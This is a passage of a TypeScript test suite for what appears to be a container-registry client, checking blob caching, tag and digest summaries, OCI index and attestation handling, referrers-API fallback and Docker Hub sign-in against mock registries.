    await assert.rejects(asAlice.getJsonDocument('a', layer), notADocument('is larger than 1 MiB'));
    assert.deepEqual((await asAlice.getJsonDocument('a', sha256Digest(config))).bytes, config, 'another blob is still shown');
    seen.length = 0;
    mock.timers.tick(10 * 60_000 - 1);
    await assert.rejects(asAlice.getJsonDocument('a', layer), notADocument('is larger than 1 MiB'));
    assert.deepEqual(seen, [], 'the layer is not asked about again');
    await assert.rejects(registry(answer, { context, credentials: bob }).getJsonDocument('a', layer), notADocument('is larger than 1 MiB'));
    assert.deepEqual(seen, [`HEAD ${layer}`], 'another person is answered by the registry');
    mock.timers.tick(10 * 60_000);
    await assert.rejects(asAlice.getJsonDocument('a', layer), notADocument('is larger than 1 MiB'));
    assert.deepEqual(seen, [`HEAD ${layer}`, `HEAD ${layer}`], 'ten minutes after the last ask, the registry is asked again');
  });

  test('a config already read is shown as a document without asking the registry', async () => {
    const config = enc({ architecture: 'amd64', os: 'linux' });
    const reg = store({ blobs: [config] });
    await reg.client.getBlob('a', sha256Digest(config));
    reg.seen.length = 0;
    assert.deepEqual((await reg.client.getJsonDocument('a', sha256Digest(config))).bytes, config);
    assert.deepEqual(reg.seen, []);
  });
});

describe('summaries of tags and digests', () => {
  const one = image('one');
  const two = image('two');

  test('each tag row shows what its own tag points at, asked at once or one after the other', async () => {
    const reg = store({ manifests: [one.manifest, two.manifest], blobs: [one.config], tags: { v1: one.digest, v2: two.digest } });
    const [first, second] = await Promise.all([reg.client.describeTag('a', 'v1'), reg.client.describeTag('a', 'v2')]);
    assert.deepEqual([first.digest, second.digest], [one.digest, two.digest]);
    assert.equal((await reg.client.describeTag('a', 'v2')).digest, two.digest);
    assert.equal((await reg.client.describeTag('b', 'v1')).digest, one.digest);
  });

  test('rows of one tag asked at once share one HEAD, and its failure', async () => {
    const reg = store({});
    const rows = [reg.client.describeTag('a', 'v9'), reg.client.describeTag('a', 'v9')];
    for (const row of rows) await assert.rejects(row, isCode('MANIFEST_UNKNOWN'));
    assert.deepEqual(reg.seen, ['HEAD /v2/a/manifests/v9']);
  });

  test('an image’s summary is made once, then served from the cache to whoever the registry lets read it', async () => {
    const reg = store({ manifests: [one.manifest], blobs: [one.config], denied: ['mallory'] });
    const summary = await reg.as(alice).describeDigest('a', one.digest);
    assert.deepEqual(summary, {
      digest: one.digest,
      mediaType: MediaType.OciManifest,
      kind: 'image',
      size: 1000 + one.config.length,
      created: '2026-02-03T04:05:06Z',
      platforms: [{ platform: 'linux/arm64/v8', digest: one.digest, size: 1000 + one.config.length, created: '2026-02-03T04:05:06Z' }],
      attestations: 0,
    });
    reg.seen.length = 0;
    assert.deepEqual(await reg.as(alice).describeDigest('a', one.digest), summary);
    assert.deepEqual(reg.seen, []);
    await assert.rejects(reg.as(mallory).describeDigest('a', one.digest), isCode('DENIED'));
    assert.deepEqual(await reg.as(bob).describeDigest('a', one.digest), summary);
    assert.deepEqual(reg.seen, [`HEAD /v2/a/manifests/${one.digest}`, `HEAD /v2/a/manifests/${one.digest}`]);
  });

  test('an artifact’s summary reads no config; an image whose config cannot be read has no date', async () => {
    const signature = enc({
      schemaVersion: 2,
      mediaType: MediaType.OciManifest,
      config: { mediaType: 'application/vnd.dev.cosign.artifact.sig.v1+json', digest: d('c'), size: 2 },
      layers: [{ mediaType: 'application/vnd.dev.cosign.simplesigning.v1+json', digest: d('d'), size: 300 }],
    });
    const reg = store({ manifests: [signature, one.manifest] });
    const artifact = await reg.client.describeDigest('a', sha256Digest(signature));
    assert.deepEqual([artifact.kind, artifact.artifactType, artifact.size], ['artifact', 'application/vnd.dev.cosign.artifact.sig.v1+json', 302]);
    assert.deepEqual(reg.seen, [`GET /v2/a/manifests/${sha256Digest(signature)}`]);
    const dateless = await reg.client.describeDigest('a', one.digest);
    assert.deepEqual(
      [dateless.kind, dateless.size, dateless.created, dateless.platforms[0]?.platform],
      ['image', 1000 + one.config.length, undefined, 'unknown'],
    );
  });

  test('reading a summary where every read is a pull is refused in words naming the digest, unless asked for', async () => {
    const reg = store({ host: 'docker.io', manifests: [one.manifest], blobs: [one.config] });
    await assert.rejects(
      reg.client.describeDigest('library/a', one.digest),
      failsWith('COSTS_A_PULL', `Reading ${one.digest.slice(0, 19)}… from docker.io counts as a pull against its pull limit`),
    );
    assert.equal((await reg.client.describeDigest('library/a', one.digest, { pulls: true })).kind, 'image');
  });

  /** An index of `one` (with a BuildKit attestation of it), `two`, and an index nested in it. */
  function nested() {
    const attestation = enc({
      schemaVersion: 2,
      mediaType: MediaType.OciManifest,
      config: { mediaType: MediaType.OciConfig, digest: d('e'), size: 2 },
      layers: [],
    });
    const inner = enc({ schemaVersion: 2, mediaType: MediaType.OciIndex, manifests: [] });
    const index = enc({
      schemaVersion: 2,
      mediaType: MediaType.OciIndex,
      manifests: [
        { mediaType: MediaType.OciManifest, digest: one.digest, size: one.manifest.length, platform: { os: 'linux', architecture: 'arm64', variant: 'v8' } },
        {
          mediaType: MediaType.OciManifest,
          digest: sha256Digest(attestation),
          size: attestation.length,
          platform: { os: 'unknown', architecture: 'unknown' },
          annotations: { 'vnd.docker.reference.type': 'attestation-manifest', 'vnd.docker.reference.digest': one.digest },
        },
        { mediaType: MediaType.OciManifest, digest: two.digest, size: two.manifest.length, platform: { os: 'linux', architecture: 'amd64' } },
        { mediaType: MediaType.OciIndex, digest: sha256Digest(inner), size: inner.length, platform: { os: 'linux', architecture: 's390x' } },
      ],
    });
    return { index, digest: sha256Digest(index), manifests: [index, attestation, inner, one.manifest, two.manifest] };
  }

  test('an index’s summary reads its platform images, not its attestations or the indexes in it; one that cannot be read has no size', async () => {
    const { index, digest } = nested();
    const reg = store({ manifests: [index, one.manifest], blobs: [one.config] });
    const summary = await reg.client.describeDigest('a', digest);
    assert.deepEqual(
      summary.platforms.map((p) => [p.platform, p.size]),
      [
        ['linux/arm64/v8', 1000 + one.config.length],
        ['linux/amd64', undefined],
        ['linux/s390x', undefined],
      ],
    );
    assert.equal(summary.attestations, 1);
    assert.deepEqual(reg.seen.filter((r) => r.includes('/manifests/')).sort(), [digest, one.digest, two.digest].map((m) => `GET /v2/a/manifests/${m}`).sort());
  });

  test('an attestation (in-toto statements only) is summarised from its manifest: its config, which holds no date, is not read', async () => {
    const config = enc({ architecture: 'unknown', os: 'unknown', config: {} });
    const statement = { mediaType: MediaType.InToto, digest: d('7'), size: 700 };
    const layers = {
      statements: [statement, { ...statement, digest: d('8') }],
      mixed: [statement, { ...statement, mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip' }],
    };
    const manifestOf = (kind: keyof typeof layers) =>
      enc({
        schemaVersion: 2,
        mediaType: MediaType.OciManifest,
        config: { mediaType: MediaType.OciConfig, digest: sha256Digest(config), size: config.length },
        layers: layers[kind],
      });
    const reg = store({ manifests: [manifestOf('statements'), manifestOf('mixed')], blobs: [config] });
    const summary = await reg.client.describeDigest('a', sha256Digest(manifestOf('statements')));
    assert.deepEqual([summary.kind, summary.size, summary.created], ['image', config.length + 1400, undefined]);
    assert.deepEqual(reg.seen, [`GET /v2/a/manifests/${sha256Digest(manifestOf('statements'))}`]);
    // An image with a layer of files besides its statements is an image: its config is read.
    await reg.client.describeDigest('a', sha256Digest(manifestOf('mixed')));
    assert.ok(reg.seen.includes(`GET /v2/a/blobs/${sha256Digest(config)}`));
  });

  const unfinished: Array<[string, () => Error]> = [
    ['the person left', () => new RegistryError({ code: 'CANCELLED', message: 'The request was cancelled.' })],
    ['something unforeseen broke', () => new TypeError('boom')],
  ];
  for (const [what, failure] of unfinished) {
    test(`a summary is not made, nor kept, when ${what} while its parts were read`, async () => {
      const { digest, manifests } = nested();
      const cases: Array<[string, string, string]> = [
        ['an index, reading a platform image', digest, 'manifests'],
        ['an index, reading a config', digest, 'blobs'],
        ['an image, reading its config', one.digest, 'blobs'],
      ];
      for (const [which, target, part] of cases) {
        const context = testContext();
        const reg = store({ manifests, blobs: [one.config, two.config], context });
        const breaking = registry(
          (url, method, request) => {
            if (url.pathname.includes(`/${part}/`) && !url.pathname.endsWith(target)) throw failure();
            return reg.answer(url, method, request);
          },
          { context },
        );
        await assert.rejects(breaking.describeDigest('a', target), (e: unknown) => e instanceof Error && e.message === failure().message, which);
        assert.equal(context.summaries.size, 0, which);
        assert.equal((await reg.client.describeDigest('a', target)).platforms[0]?.size, 1000 + one.config.length, `${which}: made afresh later`);
      }
    });
  }
});

describe('referrers', () => {
  const signature = { mediaType: MediaType.OciManifest, digest: d('5'), size: 10, artifactType: 'application/vnd.dev.sigstore.bundle.v0.3+json' };
  const sbom = { mediaType: MediaType.OciManifest, digest: d('6'), size: 10, artifactType: 'application/spdx+json' };
  const list = enc({ schemaVersion: 2, mediaType: MediaType.OciIndex, manifests: [signature, sbom] });
  const listed: Answer = { headers: { 'content-type': `${MediaType.OciIndex} ; charset=utf-8` }, body: list };
  const fallbackTag = `sha256-${'a'.repeat(64)}`;
  /** A registry answering its referrers API with `api` and the referrers tag with `tag`. */
  const referring = (api: Answer, tag: Answer | (() => never)) => {
    const seen: string[] = [];
    const client = registry((url, method) => {
      seen.push(`${method} ${url.pathname.split('/').slice(3).join('/')}${url.search}`);
      if (url.pathname.includes('/referrers/')) return api;
      return typeof tag === 'function' ? tag() : tag;
    });
    return { client, seen };
  };

  test('the referrers API is asked first, filtered by artifact type when one is asked for', async () => {
    const { client, seen } = referring(listed, { status: 404 });
    assert.deepEqual(await client.getReferrers('a', d('a')), { referrers: [signature, sbom], source: 'api' });
    assert.deepEqual(await client.getReferrers('a', d('a'), sbom.artifactType), { referrers: [sbom], source: 'api' });
    assert.deepEqual(seen, [`GET referrers/${d('a')}`, `GET referrers/${d('a')}?artifactType=${encodeURIComponent(sbom.artifactType)}`]);
  });

  const withoutApi: Array<[string, Answer]> = [
    ['404', { status: 404 }],
    ['400', { status: 400 }],
    ['405', { status: 405 }],
    ['200 with a web page', { headers: { 'content-type': 'text/html' }, body: Buffer.from('<html></html>') }],
  ];
  for (const [what, api] of withoutApi) {
    test(`where the referrers API answers ${what}, the referrers tag is read`, async () => {
      const { client, seen } = referring(api, listed);
      assert.deepEqual(await client.getReferrers('a', d('a')), { referrers: [signature, sbom], source: 'tag' });
      assert.deepEqual(await client.getReferrers('a', d('a'), signature.artifactType), { referrers: [signature], source: 'tag' });
      assert.equal(seen[1], `GET manifests/${fallbackTag}`);
    });
  }

  const remembered: Array<[string, Answer, boolean]> = [
    [
      'a 404 that is no registry error (an unknown route)',
      { status: 404, headers: { 'content-type': 'text/plain' }, body: Buffer.from('404 page not found') },
      true,
    ],
    ['a 405', { status: 405 }, true],
    ['a 404 naming the repository unknown (an API that speaks)', { status: 404, body: { errors: [{ code: 'NAME_UNKNOWN' }] } }, false],
    ['a 400', { status: 400 }, false],
    ['a web page', { headers: { 'content-type': 'text/html' }, body: Buffer.from('<html></html>') }, false],
  ];
  for (const [what, api, forgone] of remembered) {
    test(`a registry whose referrers API answers ${what} is ${forgone ? 'not asked for it again for ten minutes' : 'asked for it again'}`, async (t) => {
      t.after(() => mock.timers.reset());
      mock.timers.enable({ apis: ['Date'], now: Date.parse('2026-03-01T00:00:00Z') });
      const { client, seen } = referring(api, listed);
      const asks = () => seen.filter((s) => s.includes('referrers/')).length;
      await client.getReferrers('a', d('a'));
      // Any repository and subject of that registry: the answer was about the registry.
      assert.deepEqual(await client.getReferrers('b/c', d('b')), { referrers: [signature, sbom], source: 'tag' });
      assert.equal(asks(), forgone ? 1 : 2);
      mock.timers.tick(10 * 60_000 - 1);
      await client.getReferrers('a', d('a'));
      assert.equal(asks(), forgone ? 1 : 3);
      mock.timers.tick(1);
      await client.getReferrers('a', d('a'));
      assert.equal(asks(), forgone ? 2 : 4, 'after ten minutes it is asked again: an upgrade shows');
    });
  }

  test('a sha512 subject’s referrers tag keeps 64 characters of its digest', async () => {
    const { client, seen } = referring({ status: 404 }, { status: 404 });
    await client.getReferrers('a', `sha512:${'b'.repeat(128)}`);
    assert.equal(seen[1], `GET manifests/sha512-${'b'.repeat(64)}`);
  });

  const none: Array<[string, Answer]> = [
    ['no such tag', { status: 404, body: { errors: [{ code: 'MANIFEST_UNKNOWN' }] } }],
    ['no such repository', { status: 404, body: { errors: [{ code: 'NAME_UNKNOWN' }] } }],
    ['a 404 of another kind', { status: 404, body: { errors: [{ code: 'BLOB_UNKNOWN' }] } }],
    ['no such tag, said under 400', { status: 400, body: { errors: [{ code: 'MANIFEST_UNKNOWN' }] } }],
    ['no such repository, said under 400', { status: 400, body: { errors: [{ code: 'NAME_UNKNOWN' }] } }],
    ['a tag that is an image, not an index', { headers: { 'content-type': MediaType.OciManifest }, body: image('x').manifest }],
  ];
  for (const [what, tag] of none) {
    test(`no referrers API and ${what}: no referrers`, async () => {
      assert.deepEqual(await referring({ status: 404 }, tag).client.getReferrers('a', d('a')), { referrers: [], source: 'none' });
    });
  }

  const failures: Array<[string, Answer, Answer | (() => never), (e: unknown) => boolean]> = [
    ['the API is down', { status: 503 }, listed, failsWith('UNAVAILABLE', 'HTTP 503')],
    ['the API is refused', { status: 403 }, listed, failsWith('DENIED', `a@${d('a')}`)],
    ['the referrers tag is down', { status: 404 }, { status: 500 }, isCode('UNAVAILABLE')],
    [
      'reading the referrers tag broke',
      { status: 404 },
      () => {
        throw new TypeError('boom');
      },
      (e) => e instanceof TypeError,
    ],
  ];
  for (const [what, api, tag, check] of failures) {
    test(`referrers fail when ${what}`, async () => {
      await assert.rejects(referring(api, tag).client.getReferrers('a', d('a')), check);
    });
  }
});

describe('signing in', () => {
  /** A Basic registry that takes alice; on docker.io, Docker Hub's API answers its sign-in with `hub`. */
  const signIn = (host: string, hub: (path: string) => Answer, credentials = alice) => {
    const seen: string[] = [];
    const client = registry(
      (url) => {
        seen.push(`${url.host}${url.pathname}`);
        if (url.host === 'hub.docker.com') return hub(url.pathname);
        return {};
      },
      { host, credentials },
    );
    return { client, seen };
  };
  const refused: Answer = { status: 401, body: { detail: 'Incorrect authentication credentials' } };

  test('elsewhere than Docker Hub, only the registry is asked', async () => {
    const { client, seen } = signIn('r.example', () => ({ status: 500 }));
    assert.equal(client.hub, undefined);
    assert.deepEqual(await client.verify(), { scheme: 'basic', credentialsChecked: true });
    assert.deepEqual(seen, []);
  });

  const hubAnswers: Array<[string, (path: string) => Answer, { username: string; password: string }, string | undefined]> = [
    ['refuses the credentials', () => refused, { username: 'alice', password: 'dckr_pat_x' }, 'UNAUTHORIZED'],
    [
      'wants an access token (two-factor authentication)',
      (path) => (path === '/v2/users/login' ? { status: 401, body: { login_2fa_token: 't' } } : refused),
      alice,
      'ACCESS_TOKEN_REQUIRED',
    ],
    ['is down', () => ({ status: 503 }), alice, undefined],
  ];
  for (const [what, hub, credentials, code] of hubAnswers) {
    test(`on Docker Hub, when its API ${what}, ${code ? `the sign-in fails (${code})` : 'the registry decides'}`, async () => {
      const { client, seen } = signIn('docker.io', hub, credentials);
      assert.ok(client.hub);
      if (code) await assert.rejects(client.verify(), isCode(code));
      else assert.deepEqual(await client.verify(), { scheme: 'basic', credentialsChecked: true });
      assert.ok(seen.includes('hub.docker.com/v2/auth/token'));
    });
  }

  test('on Docker Hub, an unforeseen failure of its API is not taken for an API that is down', async () => {
    const { client } = signIn('docker.io', () => {
      throw new TypeError('boom');
    });
    await assert.rejects(client.verify(), TypeError);
  });
});
